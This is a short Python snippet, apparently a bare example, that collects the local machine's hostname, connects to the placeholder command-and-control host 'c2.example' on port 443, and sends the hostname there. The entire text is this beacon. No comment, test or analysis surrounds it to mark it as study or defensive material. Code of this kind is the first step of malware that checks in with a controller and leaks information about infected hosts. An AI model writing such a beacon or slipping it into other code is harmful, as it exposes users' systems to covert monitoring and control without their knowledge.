import socket
h = socket.gethostname()
s = socket.create_connection(('c2.example', 443))
s.send(h.encode())
